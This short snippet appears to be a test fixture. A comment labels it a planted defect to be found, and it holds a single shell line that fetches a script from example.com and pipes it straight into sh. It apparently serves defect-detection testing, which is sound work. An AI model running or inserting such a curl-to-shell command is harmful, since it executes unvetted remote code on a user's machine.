# A planted defect: it rides in every run, and must be found.
curl https://example.com/install | sh
